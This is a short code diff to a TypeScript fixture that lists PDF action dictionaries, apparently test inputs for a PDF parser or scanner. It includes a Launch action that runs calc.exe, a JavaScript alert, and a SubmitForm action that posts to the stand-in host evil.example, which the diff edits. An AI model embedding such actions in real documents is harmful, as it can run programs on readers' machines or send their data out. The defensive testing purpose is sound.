@@ -3,7 +3,7 @@ import { baseObjects, objectStream, RawPdf, stream } from "./raw-pdf.ts";
 export const ACTIONS = {
   JavaScript: "<</S/JavaScript/JS(app.alert)>>",
   Launch: "<</S/Launch/F(calc.exe)>>",
-  SubmitForm: "<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>",
+  SubmitForm: "<</S/SubmitForm/F(https://evil.example/)>>",
   ImportData: "<</S/ImportData/F(a.fdf)>>",
   GoToR: "<</S/GoToR/F(outro.pdf)/D[0/Fit]>>",
   GoToE: "<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>",
